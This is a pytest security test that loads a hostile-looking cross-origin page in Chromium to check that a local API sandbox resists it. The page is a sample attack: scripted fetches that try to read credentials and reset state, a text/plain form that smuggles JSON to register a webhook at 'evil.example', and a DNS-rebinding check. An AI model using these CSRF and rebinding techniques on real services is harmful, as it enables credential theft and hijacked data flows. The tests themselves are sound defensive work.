"""A page of somebody else, in a real browser: it reads nothing, changes nothing and frames nothing."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from support.chromium import MISSING, Chromium

from nusantara.sandbox import Sandbox

pytestmark = pytest.mark.skipif(bool(MISSING), reason=MISSING)

PAGE = """<!DOCTYPE html>
<title>Hadiah!</title>
<iframe id="frame" src="BASE/api/oauth/authorize?token=TOKEN"></iframe>
<iframe name="sink"></iframe>
<form id="form" method="post" enctype="text/plain" target="sink" action="BASE/_qiscus/settings">
<input name='{"webhook_urls": ["http://evil.example/"], "x' value='": 1}'></form>
<pre id="done"></pre>
<script>
const seen = {};
const text = JSON.stringify({kind: "status", status: 200, body: "<h1>palsu</h1>"});
const attempts = {
  read: ["/_sandbox/requests", {}],
  credentials: ["/_sandbox/credentials", {}],
  blind: ["/_sandbox/requests", {mode: "no-cors"}],
  fault: ["/_sandbox/faults", {method: "POST", mode: "no-cors", body: text}],
  json: ["/_sandbox/faults", {method: "POST", body: text, headers: {"Content-Type": "application/json"}}],
  reset: ["/_sandbox/reset", {method: "POST", mode: "no-cors"}],
  clear: ["/_sandbox/faults", {method: "DELETE"}],
  hook: ["/_qiscus/settings", {method: "POST", mode: "no-cors", body: '{"webhook_urls": ["http://evil.example/"]}'}],
  letters: ["/_kaskus/outgoing", {}],
};
async function all() {
  for (const [name, [path, options]] of Object.entries(attempts)) {
    try {
      const answer = await fetch("BASE" + path, options);
      seen[name] = answer.type == "opaque" ? "opaque" : await answer.text();
    } catch (error) {
      seen[name] = "failed";
    }
  }
  document.getElementById("form").submit();
  await new Promise(done => setTimeout(done, 500));
  document.getElementById("done").textContent = JSON.stringify(seen);
  document.title = "done";
}
addEventListener("load", all);
</script>
"""


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    mapped = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    with Chromium(tmp_path_factory.mktemp("chromium"), mapped) as browser:
        yield browser


@pytest.fixture
def sandbox() -> Iterator[Sandbox]:
    with Sandbox().in_thread() as running:
        yield running


@pytest.fixture
def evil(sandbox: Sandbox) -> Iterator[str]:
    """The port of a stranger's page."""
    token = sandbox.kaskus.sessions.ask(sandbox.kaskus.app, "oob").token
    page = PAGE.replace("BASE", sandbox.base_url).replace("TOKEN", token).encode()

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield str(server.server_address[1])
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.parametrize("host", ["evil.example", "localhost", "127.0.0.1"])
async def test_a_page_of_another_origin_gets_nowhere(
    chromium: Chromium, sandbox: Sandbox, evil: str, host: str
) -> None:
    def visit() -> dict[str, str]:
        chromium.open(f"http://{host}:{evil}/")
        found: dict[str, str] = json.loads(chromium.text("//pre[starts-with(., '{')]"))
        return found

    seen = await asyncio.to_thread(visit)
    assert seen.keys() == {"read", "credentials", "blind", "fault", "json", "reset", "clear", "hook", "letters"}
    assert set(seen.values()) <= {"failed", "opaque"}
    assert sandbox.faults.active == []
    assert sandbox.qiscus.webhook_urls == ()
    assert [record.path for record in sandbox.requests if record.executed] == []


async def test_a_rebound_name_shows_nothing(chromium: Chromium, sandbox: Sandbox) -> None:
    port = sandbox.base_url.rpartition(":")[2]

    def look(path: str) -> str:
        chromium.open(f"http://evil.example:{port}{path}")
        return chromium.text("//body")

    for path in ("/_sandbox/requests", "/_sandbox/credentials", "/_qiscus/settings", "/api/v2/rest/user_profile"):
        assert "does not answer under the host 'evil.example'" in await asyncio.to_thread(look, path)


async def test_the_developer_may_look(chromium: Chromium, sandbox: Sandbox) -> None:
    def look() -> str:
        chromium.open(f"{sandbox.base_url}/_sandbox/requests")
        return chromium.text("//body")

    assert '{"requests":[]}' in await asyncio.to_thread(look)
